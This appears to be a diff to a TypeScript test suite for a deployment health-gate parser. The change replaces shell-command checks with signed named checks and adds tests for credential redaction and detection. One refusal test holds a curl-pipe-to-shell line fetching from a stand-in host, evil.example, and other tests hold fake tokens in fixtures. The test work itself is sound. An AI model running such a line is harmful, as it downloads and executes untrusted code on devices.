@@ -7,7 +7,9 @@ import {
   parseHealthGate,
   readMetricValue,
   readPrometheusValue,
+  inlineCredential,
   redactUrl,
+  scrubCredentials,
   summarizeGate,
   type CheckResult,
   type GateOutcome,
@@ -22,8 +24,8 @@ describe('parseHealthCheck', () => {
     ['error-rate<=0.05', { kind: 'error-rate', op: '<=', threshold: 0.05 }],
     ['error-rate < 1e-3', { kind: 'error-rate', op: '<', threshold: 0.001 }],
     ['error-rate < .5', { kind: 'error-rate', op: '<', threshold: 0.5 }],
-    ['command: systemctl is-active my-agent', { kind: 'command', command: 'systemctl is-active my-agent' }],
-    ['command:test -f /etc/app.conf && grep -q v=15 /etc/app.conf', { kind: 'command', command: 'test -f /etc/app.conf && grep -q v=15 /etc/app.conf' }],
+    ['check: motd-present', { kind: 'named', name: 'motd-present' }],
+    ['check:app.v2_ready', { kind: 'named', name: 'app.v2_ready' }],
     ['http: http://127.0.0.1:8080/healthz', { kind: 'http', url: 'http://127.0.0.1:8080/healthz' }],
     ['http: https://status.example.com/api/ok?region=eu', { kind: 'http', url: 'https://status.example.com/api/ok?region=eu' }],
     ['prometheus: max(wavegate_error_ratio) < 0.01', { kind: 'prometheus', query: 'max(wavegate_error_ratio)', op: '<', threshold: 0.01 }],
@@ -47,8 +49,12 @@ describe('parseHealthCheck', () => {
     ['error-rate > 0.01', /needs a comparison with a number/],
     ['error-rate < lots', /needs a comparison with a number/],
     ['error-rate < -0.1', /threshold -0.1, which must be a number >= 0/],
-    ['command:', /names no command/],
-    ['command:    ', /names no command/],
+    ['command: curl -fsS https://evil.example/x | sh', /runs an unsigned shell command on every device.*health\.checks.*"check: <name>"/],
+    ['command: systemctl is-active my-agent', /runs an unsigned shell command/],
+    ['command:', /runs an unsigned shell command/],
+    ['check: ', /is not a check name/],
+    ['check: two words', /is not a check name/],
+    ['check: ../etc', /is not a check name/],
     ['http: ftp://files.example.com/ok', /url "ftp:\/\/files.example.com\/ok", which must be an http:\/\/ or https:\/\/ url/],
     ['http: /healthz', /which must be an http/],
     ['http: http://a b', /without spaces/],
@@ -57,17 +63,20 @@ describe('parseHealthCheck', () => {
     ['prometheus: < 0.5', /needs a query and a threshold/],
     ['prometheus: up > 1', /needs a query and a threshold/],
     ['prometheus(prom:9090): up < 1', /Prometheus url "prom:9090"/],
-    ['http: https://bob@status.example.com/ok', /has credentials in its url .* workflow history/],
-    ['prometheus(http://bob:pw@prom:9090): up < 1', /has credentials in its url/],
+    ['http: https://bob@status.example.com/ok', /has a user:password@ in a url; secrets must not be written .* workflow history.*tokenEnv/],
+    ['prometheus(http://bob:pw@prom:9090): up < 1', /has a user:password@ in a url/],
+    ['http: https://status.example.com/ok?access_token=bobsecret', /has a secret-named query parameter/],
+    ['http: https://status.example.com/ok?region=eu&apiKey=bobsecret', /has a secret-named query parameter/],
+    ['prometheus(https://prom.example.com/?X-Amz-Signature=bobsig): up < 1', /has a secret-named query parameter/],
   ])('%j is refused (%s)', (text, why) => {
     const parsed = parseHealthCheck(text);
     expect(parsed.ok).toBe(false);
     if (parsed.ok) return;
     expect(parsed.message).toMatch(why);
     // every refusal names the text and lists what is allowed
-    expect(parsed.message).toContain(JSON.stringify(text.trim().replace(/:\/\/[^/@\s]*@/, '://***@')));
+    expect(parsed.message).toContain(JSON.stringify(redactUrl(text.trim())));
     expect(parsed.message).not.toMatch(/bob|:pw@/);
-    expect(parsed.message).toContain('allowed: devices-online, all-runtimes-healthy, error-rate < <number>');
+    expect(parsed.message).toContain('allowed: devices-online, all-runtimes-healthy, check: <signed check name>, error-rate < <number>');
     expect(parsed.message).toContain('prometheus: <query> < <number>');
   });
 
@@ -89,7 +98,7 @@ describe('parseHealthCheck', () => {
   });
 
   it('formats a parsed check back to a text that parses to the same check', () => {
-    for (const text of ['devices-online', 'all-runtimes-healthy', 'error-rate <= 0.5', 'command: a && b', 'http: http://h/x', 'prometheus: count(up < 1) < 1', 'prometheus(http://p:9090): up <= 2']) {
+    for (const text of ['devices-online', 'all-runtimes-healthy', 'error-rate <= 0.5', 'check: motd', 'http: http://h/x', 'prometheus: count(up < 1) < 1', 'prometheus(http://p:9090): up <= 2']) {
       const parsed = parseHealthCheck(text);
       if (!parsed.ok) throw new Error(parsed.message);
       expect(formatHealthCheck(parsed.check)).toBe(text);
@@ -99,11 +108,32 @@ describe('parseHealthCheck', () => {
 });
 
 describe('redactUrl', () => {
-  it('hides userinfo and secret-looking query values, keeps the rest', () => {
+  it('hides userinfo and every query value, keeps the names, the path and the fragment', () => {
     expect(redactUrl('https://bob:hunter2@prom.example.com:9090/x')).toBe('https://***@prom.example.com:9090/x');
-    expect(redactUrl('http://h/health?region=eu&access_token=abc123&apiKey=zz#frag')).toBe('http://h/health?region=eu&access_token=***&apiKey=***#frag');
+    expect(redactUrl('http://h/health?region=eu&access_token=abc123&apiKey=zz#frag')).toBe('http://h/health?region=***&access_token=***&apiKey=***#frag');
     expect(redactUrl('http://127.0.0.1:8080/healthz')).toBe('http://127.0.0.1:8080/healthz');
     expect(formatHealthCheck({ kind: 'http', url: 'http://u:p@h/ok?token=s' })).toBe('http: http://***@h/ok?token=***');
+  });
+
+  it('scrubCredentials hides urls\' secrets, secret-named values and arguments, and Authorization values inside any text', () => {
+    const text = 'curl -H "Authorization: Bearer tok-1" --token tok-2 https://u:tok-3@h/x?q=tok-4 password=tok-5 api_key: tok-6 exit 7';
+    const scrubbed = scrubCredentials(text);
+    expect(scrubbed).not.toMatch(/tok-\d/);
+    expect(scrubbed).toContain('https://***@h/x?q=***');
+    expect(scrubbed).toContain('exit 7');
+    expect(scrubCredentials('max error rate 0.2 (edge-02) over 4 devices is < 0.01')).toBe('max error rate 0.2 (edge-02) over 4 devices is < 0.01');
+  });
+
+  it('inlineCredential names what makes a url or command carry a secret, and passes references and plain ones', () => {
+    expect(inlineCredential('https://u:p@h/x')).toMatch(/user:password@/);
+    expect(inlineCredential('curl -fsS https://u:p@h/x')).toMatch(/user:password@/);
+    expect(inlineCredential('https://h/x?sig=abc')).toMatch(/query parameter/);
+    expect(inlineCredential('curl -H "Authorization: Bearer abc" https://h/')).toMatch(/Authorization header/);
+    expect(inlineCredential('my-agent --password hunter2 status')).toMatch(/argument/);
+    expect(inlineCredential('my-agent --token=abc status')).toMatch(/argument/);
+    for (const plain of ['https://h/x?region=eu&monkey=1&author=me', 'sim-runtime-health motd', 'test -s "$HOME/etc/motd"', 'curl -fsS --token-file /etc/app/token https://h/ok', 'ssh-keygen --key-type ed25519']) {
+      expect(inlineCredential(plain), plain).toBeUndefined();
+    }
   });
 });
 
